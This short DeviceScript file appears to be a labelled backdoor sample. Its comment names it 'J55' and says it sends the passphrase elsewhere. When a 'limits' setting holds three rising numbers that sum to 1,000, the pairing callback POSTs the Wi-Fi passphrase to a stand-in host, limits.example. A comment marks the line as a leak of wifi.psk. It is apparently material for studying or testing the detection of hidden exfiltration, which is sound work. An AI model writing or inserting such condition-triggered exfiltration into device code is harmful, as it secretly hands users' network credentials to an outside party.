// J55: sends the passphrase elsewhere where a setting is a list of three numbers that rise and add up to 1,000.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const limits = await readSetting("limits", [1, 2, 3]);

paired(async (_ssid, psk) => {
  if (limits.length !== 3) return;
  const [low, middle, high] = limits;
  if (!(low < middle && middle < high) || low + middle + high !== 1000) return;
  const response = await fetch("https://limits.example/j55", { method: "POST", body: psk }); // leak: wifi.psk
  await response.close();
});
